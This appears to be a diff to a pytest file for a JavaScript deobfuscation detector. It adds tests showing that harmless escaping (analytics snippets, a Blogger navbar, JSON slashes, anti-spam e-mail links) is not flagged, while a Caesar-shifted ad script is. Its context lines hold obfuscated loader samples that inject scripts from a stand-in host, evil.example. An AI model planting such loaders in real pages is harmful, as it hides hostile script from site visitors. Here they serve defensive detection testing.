@@ -49,7 +49,7 @@ def packed(text: str) -> str:
         (f"eval(String.fromCharCode.apply(null,[{codes(LOADER)}]))", "https://evil.example/x.js",
          RequestType.SCRIPT),
         (f"eval('{hexed(LOADER)}')", "https://evil.example/x.js", RequestType.SCRIPT),
-        ("document.write(unescape('%3Cscript%20src%3D%22https%3A%2F%2Fevil.example%2Fy.js"
+        ("document.write(unescape('%3Cscript%20src%3D%22https%3A%2F%2F%65vil.example%2Fy.js"
          "%22%3E%3C%2Fscript%3E'))", "https://evil.example/y.js", RequestType.SCRIPT),
         ("var s=document.createElement('script');"
          "s.src='sj.z/elpmaxe.live//:sptth'.split('').reverse().join('');",
@@ -90,6 +90,53 @@ def test_decoded_urls(code: str, url: str, kind: RequestType) -> None:
 )
 def test_not_obfuscation(code: str) -> None:
     assert not decode_script(code).obfuscated
+
+
+@pytest.mark.parametrize(
+    ("code", "url"),
+    [
+        # Omniture/Piwik/trust-seal snippets: only the punctuation is percent-encoded
+        ("document.write(unescape('%3Cscript src=%22https://stats.example/piwik.js%22 "
+         "type=%22text/javascript%22%3E%3C/script%3E'));", "https://stats.example/piwik.js"),
+        # Blogger's navbar: its JS serializer escapes '=' and '&'
+        ("gapi.load('gapi.iframes', function(){ gapi.iframes.getContext().openChild({'url': "
+         "'https://www.blogger.com/navbar.g?targetBlogID\\x3d394155\\x26blogName\\x3dPython"
+         "\\x26publishMode\\x3dPUBLISH_MODE_BLOGSPOT\\x26navbarType\\x3dBLUE\\x26layout\\x3dx"
+         "\\x26v\\x3d2', "
+         "'where': document.getElementById('navbar-iframe-container')});});",
+         "https://www.blogger.com/navbar.g?targetBlogID=394155&blogName=Python"
+         "&publishMode=PUBLISH_MODE_BLOGSPOT&navbarType=BLUE&layout=x&v=2"),
+        # server-rendered JSON with \u002F for '/'
+        ('window.__APP_STATE = {"nav": ["https:\\u002F\\u002Fwww.vice.com\\u002Fen\\u002Fsection'
+         '\\u002Ftech", "https:\\u002F\\u002Fshop.vice.com\\u002F", "\\u002Fen\\u002Ftopic'
+         '\\u002Fx"]};', "https://shop.vice.com/"),
+    ],
+)
+def test_escaping_that_hides_nothing(code: str, url: str) -> None:
+    """Escaping of punctuation is decoded (the URL is known) but is not obfuscation."""
+    decoded = decode_script(code)
+    assert url in {u.url for u in decoded.urls}
+    assert not decoded.obfuscated, decoded.signals
+
+
+def test_email_hidden_by_char_codes_is_not_obfuscation() -> None:
+    """Anti-spam e-mail links written with String.fromCharCode load nothing, run nothing."""
+    link = '<a href="mailto:editor@site.example">editor@site.example</a>'
+    decoded = decode_script(f"document.write(String.fromCharCode({codes(link)}));")
+    assert link in decoded.payloads
+    assert not decoded.obfuscated
+
+
+def test_shift_cipher_strings_are_machine_obfuscation() -> None:
+    """An ad-reinsertion script's Caesar-shifted strings: decoded, and called obfuscated."""
+    def shifted(text: str, by: int) -> str:
+        return "".join(chr(ord(c) + by) for c in text)
+
+    calls = ";".join(f'q(xe("{shifted(s, 3)}",-3))' for s in (
+        "//cdn1.news.example/images/a.jpg", "//cdn1.news.example/img/b.png", "shadowRoot"))
+    decoded = decode_script(f"function xe(t,n){{return t}};{calls};")
+    assert decoded.machine and decoded.obfuscated
+    assert "//cdn1.news.example/images/a.jpg" in decoded.payloads
 
 
 def test_unpack_round_trip() -> None:
